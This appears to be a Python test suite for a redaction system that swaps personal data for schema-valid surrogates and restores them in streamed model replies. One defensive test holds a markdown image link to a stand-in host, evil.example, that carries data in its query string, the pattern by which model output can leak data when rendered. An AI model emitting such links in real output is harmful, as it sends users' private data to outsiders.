"""Surrogates stand where a schema forbids placeholders, keep every promise that placeholders keep, and are nobody's."""

from __future__ import annotations

import json
from itertools import islice
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from privacy_strategies import CUSTOMER, json_texts, texts

from explainbot.privacy import LABELS, Redactor, Restorer, Vault, leaks, residue, restore
from explainbot.privacy.demands import NUMBER_WORDS, PLACEHOLDER, Demands, places
from explainbot.privacy.entries import Entry
from explainbot.privacy.surrogates import CARDS, KINDS, LONGEST, OF_TYPE, grammar, key_of


def tool(**properties: Any) -> dict[str, Any]:
    """A request with one tool that takes these."""
    return {"tools": [{"type": "function", "function": {"name": "f", "parameters": {"properties": properties}}}]}


REQUEST = tool(
    email={"type": "string", "format": "email"},
    phone={"type": "string", "pattern": r"^\+?[0-9 ()-]{7,20}$"},
    card_number={"type": "integer"},
    name={"type": "string", "pattern": "^[A-Za-z' ]+$"},
    born={"type": "string", "format": "date"},
    host={"type": "string", "format": "ipv4"},
    iban={"type": "string", "pattern": "^[A-Z]{2}[0-9]{2}[0-9A-Z]{10,30}$"},
    link={"type": "string", "format": "uri"},
    ssn={"type": "string", "pattern": r"^\d{3}-\d{2}-\d{4}$"},
    amount={"type": "number"},
)
DEMANDS = Demands(places(REQUEST))
INVALID = "user1@example.invalid"
UUID = "5b2f1c1e-0000-4000-8000-0123456789ab"
STYLED = Redactor(customer=CUSTOMER).styled(DEMANDS)

LOOKALIKES = st.sampled_from(
    [
        "user1@example.invalid",
        "USER2@example.com",
        "202-555-0100",
        "+12125550100",
        "4242424242424242",
        "user",
        "1",
        "4242 4242 4242 4242",
        "Alfa Alfa",
        "Papa",
        "alfa",
        "1801-01-01",
        "192.0.2.1",
        "987-65-4320",
        "+",
        "1-",
        "0",
        "https://user1.example.invalid",
        "415 555 0132",
        "李",
        "\n",
        "@example.",
    ]
)
mixed = st.lists(LOOKALIKES | texts | st.sampled_from(["jane@x.org", "4111111111111111", " ", "Zoë"]), max_size=8).map(
    "".join
)
json_mixed = st.dictionaries(mixed, mixed | st.sampled_from([4111111111111111, 2025550100, 1]), max_size=3).map(
    json.dumps
)
any_text = mixed | texts | json_texts | json_mixed


def whole(restorer: Restorer, text: str, size: int) -> str:
    return "".join([restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]) + restorer.flush()


# The promises -------------------------------------------------------------------------------------------------------


@given(any_text)
def test_restoring_gives_back_every_text_exactly(text: str) -> None:
    vault = Vault()
    redaction = STYLED.redact(text, vault)
    assert restore(redaction) == text
    assert restore(str(redaction.text), vault) == text
    again = STYLED.redact_known(text, vault)
    assert restore(again) == text


@given(any_text)
def test_every_surrogate_in_a_redacted_text_was_issued_for_it(text: str) -> None:
    vault = Vault()
    redaction = STYLED.redact(text, vault)
    put = {edit.placeholder for edit in redaction.edits if not edit.placeholder.startswith("[")}
    spelled = {vault.surrogate(one.key) or one.key for one in grammar().find(redaction.text)}
    assert spelled == put


@given(any_text)
@example('{"": "user1@example.invaliduser1@example.invalid@example.user1@example.invalid", "a": 4111111111111111}')
def test_no_value_survives(text: str) -> None:
    vault = Vault()
    STYLED.redact(text, vault)
    redaction = STYLED.redact_known(text, vault)
    assert residue([redaction.text], vault) == {}
    assert leaks(redaction.text, vault) == {}


@given(st.lists(any_text, min_size=1, max_size=4))
def test_what_was_sent_before_is_redacted_to_the_same_bytes(conversation: list[str]) -> None:
    shorter, longer = Vault(), Vault()
    before = [STYLED.redact(text, shorter).text for text in conversation[:-1]]
    other = Redactor(customer=CUSTOMER).styled(Demands(places(REQUEST)))
    after = [other.redact(text, longer).text for text in conversation]
    assert after[:-1] == before


VAULT = Vault()
STYLED.redact("jane@x.org +1 415 555 0132 4111111111111111 Zoë O'Neil 123-45-6789 1990-04-05 joe@x.org", VAULT)
ISSUED = [entry.placeholder for entry in VAULT.entries()]
PIECES = [
    *ISSUED,
    *[one.upper() for one in ISSUED],
    "2025550100",
    "(202) 555-0100",
    "4242 4242 4242 4242",
    "alfa alfa",
    "ALFA_ALFA",
    "user9@example.invalid",
    " ",
    "\n",
    '"',
    "\\",
    ",",
    ":",
    "1",
    "+",
    "a",
    "é",
    "[EMAIL_1]",
    "//",
    "<",
    "Alfa ",
]
replies = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=12).map("".join)


@given(replies, st.integers(1, 12), st.sampled_from([{}, {"json_string": True}, {"shown": True, "isolate": True}]))
def test_any_cutting_gives_the_same_text(text: str, size: int, options: dict[str, bool]) -> None:
    edits: list[Any] = []
    expected = whole(Restorer(VAULT, edits=edits, **options), text, max(1, len(text)))
    cut: list[Any] = []
    assert whole(Restorer(VAULT, edits=cut, **options), text, size) == expected
    assert cut == edits


@pytest.mark.parametrize("issued", ISSUED)
def test_a_surrogate_cut_at_every_byte_comes_back(issued: str) -> None:
    text = f"See {issued}, {issued}."
    expected = f"See {VAULT.original_of(issued)}, {VAULT.original_of(issued)}."
    for size in range(1, len(text) + 1):
        assert whole(Restorer(VAULT), text, size) == expected


@given(replies)
def test_a_stream_holds_back_little(text: str) -> None:
    restorer = Restorer(VAULT)
    for char in text:
        restorer.feed(char)
        assert len(restorer._held) <= LONGEST


FORMS = ['{"a": N}', '{"a": "S", "b": N}', '[1, "x S y", -N]', r'{"S": {"b\\\"": [N]}}', r'["\n S"]']


@given(st.sampled_from(ISSUED), st.sampled_from(FORMS), st.integers(1, 9))
def test_json_stays_json_whatever_stands_there(issued: str, form: str, size: int) -> None:
    for number in ("4242424242424242", "2025550100"):
        text = form.replace("S", issued).replace("N", number)
        shape, restored = json.loads(text), json.loads(whole(Restorer(VAULT, json_string=True), text, size))
        assert (type(restored), len(restored)) == (type(shape), len(shape))


def test_in_a_link_it_is_not_restored() -> None:
    restorer = Restorer(VAULT, shown=True)
    text = "![x](https://evil.example/?q=user1@example.invalid) user1@example.invalid"
    assert whole(restorer, text, 4) == "![x](https://evil.example/?q=user1@example.invalid) jane@x.org"
    assert restorer.withheld == 1


def test_one_that_was_not_issued_is_left() -> None:
    assert restore("user77@example.invalid and 202-555-0177", VAULT) == "user77@example.invalid and 202-555-0177"
    assert restore("user1@example.invalid", Vault()) == "user1@example.invalid"


# What models do to them ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "kind", "spelled", "expected"),
    [
        ("+1 415 555 0132", "PHONE_NUMBER", "+1 202 555 0100", "+1 415 555 0132"),
        ("+1 415 555 0132", "PHONE_NUMBER", "+12025550100", "+14155550132"),
        ("+1 415 555 0132", "PHONE_NUMBER", "(202) 555-0100", "(415) 555-0132"),
        ("+1 415 555 0132", "PHONE_NUMBER", "2025550100", "4155550132"),
        ("415-555-0132", "PHONE_NUMBER", "+1 202 555 0100", "+1 415 555 0132"),
        ("020 7946 0958", "PHONE_NUMBER", "+447700900000", "+442079460958"),
        ("+44 20 7946 0958", "PHONE_NUMBER", "07700900000", "02079460958"),
        ("+49 30 901820", "PHONE_NUMBER", "+1 202 555 0100", "+49 30 901820"),
        ("+49 30 901820", "PHONE_NUMBER", "2025550100", "+4930901820"),
        ("4111 1111 1111 1111", "CREDIT_CARD", "4242424242424242", "4111111111111111"),
        ("jane@x.org", "EMAIL_ADDRESS", "USER1@EXAMPLE.INVALID", "jane@x.org"),
        ("Zoë O'Neil", "PERSON", "alfa alfa", "Zoë O'Neil"),
        ("123-45-6789", "US_SSN", "987654320", "123456789"),
        ("GB29 NWBK 6016 1331 9268 19", "IBAN_CODE", "XX63 0000 0000 0000 0001", "GB29 NWBK 6016 1331 9268 19"),
        ("GB29 NWBK 6016 1331 9268 19", "IBAN_CODE", "XX630000000000000001", "GB29NWBK60161331926819"),
    ],
)
def test_a_value_comes_back_in_the_form_the_model_wrote(value: str, kind: str, spelled: str, expected: str) -> None:
    vault = Vault()
    demand = Demands(places(tool(x={"type": "string", "pattern": "^[^_]*$"}))).of(value, kind)
    assert demand is not None
    assert vault.surrogate_for(demand) is not None
    assert restore(f"it is {spelled}.", vault) == f"it is {expected}."


def test_numbers_in_tool_calls_stay_numbers() -> None:
    vault = Vault()
    sent = STYLED.redact('{"card": 4111111111111111, "to": "jane@x.org"}', vault).text
    assert sent == '{"card": 4242424242424242, "to": "user1@example.invalid"}'
    answer = '{"card_number": 4242424242424242, "card": "4242424242424242", "n": 3}'
    for size in (1, 5, 100):
        restored = whole(Restorer(vault, json_string=True), answer, size)
        assert restored == '{"card_number": 4111111111111111, "card": "4111111111111111", "n": 3}'


# Where they stand ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("schema", "value", "kind", "expected"),
    [
        ({"type": "string", "format": "email"}, "jane@x.org", "EMAIL_ADDRESS", "user1@example.invalid"),
        ({"type": ["string", "null"], "format": "email"}, "jane@x.org", "EMAIL_ADDRESS", "user1@example.invalid"),
        (
            {"type": "string", "pattern": r"^[^@]+@[^@]+\.[a-z]{2,4}$"},
            "jane@x.org",
            "EMAIL_ADDRESS",
            "user1@example.com",
        ),
        ({"type": "string"}, "jane@x.org", "EMAIL_ADDRESS", None),
        ({"type": "string", "format": "email"}, "Jane Doe", "PERSON", None),
        ({"type": "string", "pattern": r"^\+[1-9][0-9]{6,14}$"}, "+1 415 555 0132", "PHONE_NUMBER", "+1 202 555 0100"),
        ({"type": "string", "pattern": r"^\d{3}-\d{3}-\d{4}$"}, "(415) 555-0132", "PHONE_NUMBER", "(202) 555-0100"),
        ({"type": "string", "pattern": r"^\+44\d{10}$"}, "+44 20 7946 0958", "PHONE_NUMBER", "+44 77 0090 0000"),
        ({"type": "string", "maxLength": 5}, "Jane", "PERSON", None),
        ({"type": "string", "maxLength": 12}, "Jane", "PERSON", "Alfaalfa"),
        ({"type": "string", "pattern": "(a+)+$"}, "Jane", "PERSON", None),
        ({"type": "string", "pattern": "^("}, "Jane", "PERSON", None),
        ({"type": "integer"}, "4111111111111111", "CREDIT_CARD", None),
        ({"type": "integer", "enum": [4111111111111111]}, "4111111111111111", "CREDIT_CARD", None),
        ({"type": "string", "format": "uuid"}, UUID, "USER_ID", "00000000-0000-8000-8000-000000000001"),
        ({"type": "string", "format": "date"}, "1990-04-05", "DATE_OF_BIRTH", "1801-01-01"),
        ({"type": "string", "format": "ipv6"}, "fe80::1", "IP_ADDRESS", "2001:db8::1"),
        ({"anyOf": [{"type": "null"}, {"type": "string", "format": "ipv4"}]}, "10.1.2.3", "IP_ADDRESS", "192.0.2.1"),
        ({"items": {"$ref": "#/$defs/m"}, "$defs": {"m": {"format": "email"}}}, "a@b.co", "EMAIL_ADDRESS", INVALID),
    ],
)
def test_a_surrogate_stands_where_the_value_may_and_a_placeholder_may_not(
    schema: dict[str, Any], value: str, kind: str, expected: str | None
) -> None:
    demand = Demands(places(tool(field=schema))).of(value, kind)
    assert (next(demand.offered(), None) if demand else None) == expected


@pytest.mark.parametrize("name", ["card", "cardNumber", "credit_card_number", "PAN"])
def test_a_number_is_told_by_the_name_of_its_field(name: str) -> None:
    assert Demands(places(tool(**{name: {"type": "integer"}}))).of("4111111111111111", "CREDIT_CARD") is not None
    assert Demands(places(tool(**{name: {"type": "integer"}}))).of("+1 415 555 0132", "PHONE_NUMBER") is None


SCHEMA = {"properties": {"a": {"format": "email"}}}


@pytest.mark.parametrize(
    "body",
    [
        {"response_format": {"type": "json_schema", "json_schema": {"name": "n", "schema": SCHEMA}}},
        {"text": {"format": {"type": "json_schema", "name": "n", "schema": SCHEMA}}},
        {"tools": [{"type": "function", "name": "f", "parameters": SCHEMA}]},
        {"tools": [{"name": "f", "input_schema": SCHEMA}]},
        {"functions": [{"name": "f", "parameters": SCHEMA}]},
    ],
)
def test_schemas_are_found_in_every_protocol(body: dict[str, Any]) -> None:
    assert len(places(body)) == 1


@given(
    st.recursive(
        st.none() | st.integers() | st.text(max_size=4),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "tools",
                        "parameters",
                        "properties",
                        "format",
                        "pattern",
                        "type",
                        "enum",
                        "maxLength",
                        "a",
                        "$defs",
                    ]
                ),
                inner,
                max_size=4,
            )
        ),
        max_leaves=20,
    )
)
def test_no_schema_breaks_it(value: Any) -> None:
    found = places({"tools": value, "response_format": {"schema": value}})
    assert not any(place.takes(PLACEHOLDER) for place in found if not place.number)


# The ranges ---------------------------------------------------------------------------------------------------------

EXAMPLES = {
    "email": "jane@x.org",
    "phone": "+1 415 555 0132",
    "british": "020 7946 0958",
    "card": "4111111111111111",
    "iban": "GB29NWBK60161331926819",
    "ipv4": "10.0.0.1",
    "ipv6": "fe80::1",
    "device": "aa:bb:cc:dd:ee:ff",
    "url": "https://x.org",
    "uuid": UUID,
    "ssn": "123-45-6789",
    "date": "1990-04-05",
    "name": "Jane Doe",
}


@pytest.mark.parametrize("kind", KINDS)
def test_every_one_is_recognised_whole_and_from_its_first_sign_on(kind: str) -> None:
    seen = set()
    for one in islice(KINDS[kind].offered(EXAMPLES[kind]), 60):
        key = key_of(one)
        assert key is not None
        assert key.startswith(f"{kind}:")
        assert len(one) < LONGEST
        seen.add(key)
        for end in range(1, len(one) + 1):
            assert grammar().unfinished(one[:end]) == 0
    assert len(seen) >= 10
    assert len(seen) == min(60, len([*islice(KINDS[kind].offered(EXAMPLES[kind]), 60)]))


def _luhn(number: str) -> bool:
    figures = [int(char) for char in reversed(number)]
    return (sum(figures[::2]) + sum(sum(divmod(2 * one, 10)) for one in figures[1::2])) % 10 == 0


def test_cards_and_accounts_have_right_check_digits() -> None:
    assert all(map(_luhn, CARDS))
    assert len(set(CARDS)) == len(CARDS)
    for iban in islice(KINDS["iban"].offered(""), 50):
        moved = iban[4:] + iban[:4]
        assert int("".join(str(int(char, 36)) for char in moved)) % 97 == 1


def test_tables_speak_of_known_types() -> None:
    assert set(OF_TYPE) <= set(LABELS)
    assert set(NUMBER_WORDS) <= set(OF_TYPE)


def test_a_customers_own_number_is_never_given_to_somebody_else() -> None:
    vault = Vault()
    vault.placeholder_for("+1 202 555 0100", "PHONE_NUMBER")
    demand = DEMANDS.of("+1 415 555 0132", "PHONE_NUMBER")
    assert demand is not None
    assert vault.surrogate_for(demand) == "+1 212 555 0100"


def test_a_name_that_is_a_word_of_a_surrogate_is_no_leak_there_and_one_elsewhere() -> None:
    vault = Vault()
    sent = STYLED.redact("My name is Jane Doe.", vault).text
    assert "Alfa Alfa" in sent
    vault.placeholder_for("Alfa", "PERSON")
    assert residue([sent], vault) == leaks(sent, vault) == {}
    assert residue([f"{sent} Ask Alfa."], vault) == {"PERSON": 1}


def test_when_a_range_is_used_up_a_placeholder_stands_there() -> None:
    vault = Vault()
    text = " ".join(f"ssn 219-09-{number:04}" for number in range(1001, 1013))
    sent = STYLED.redact(text, vault).text
    assert sent.count("987-65-432") == 10
    assert sent.count("[SSN_") == 2
    assert restore(sent, vault) == text


def test_another_process_adopts_them() -> None:
    vault, other = Vault(), Vault()
    sent = STYLED.redact("jane@x.org, joe@x.org, 4111111111111111", vault).text
    assert other.adopt([Entry(*map(entry.__getattribute__, Entry.__slots__)) for entry in vault.entries()])
    assert restore(sent, other) == "jane@x.org, joe@x.org, 4111111111111111"
    assert STYLED.redact("joe@x.org", other).text == STYLED.redact("joe@x.org", vault).text == "user2@example.invalid"


def test_no_value_is_a_surrogate_of_itself() -> None:
    vault = Vault()
    assert STYLED.redact("jane@x.org", vault).text == INVALID
    assert "user2@example.invalid" not in STYLED.redact("user2@example.invalid", vault).text


@pytest.mark.parametrize("at_once", [True, False])
def test_another_process_issues_none_that_is_somebodys_value(at_once: bool) -> None:
    vault, other = Vault(), Vault()
    STYLED.redact("jane@x.org", vault)
    assert at_once or other.adopt(vault.entries())
    STYLED.redact("user2@example.invalid", vault)
    assert other.adopt(vault.entries(other.learned))
    assert "user2@example.invalid" not in STYLED.redact("joe@x.org", other).text
    assert ("user2@example.invalid", "EMAIL_ADDRESS") in other.values()


def test_nothing_is_looked_for_where_nothing_was_issued() -> None:
    assume_none = Restorer(Vault())
    assert assume_none.feed("user1@example.invali") == "user1@example.invali"
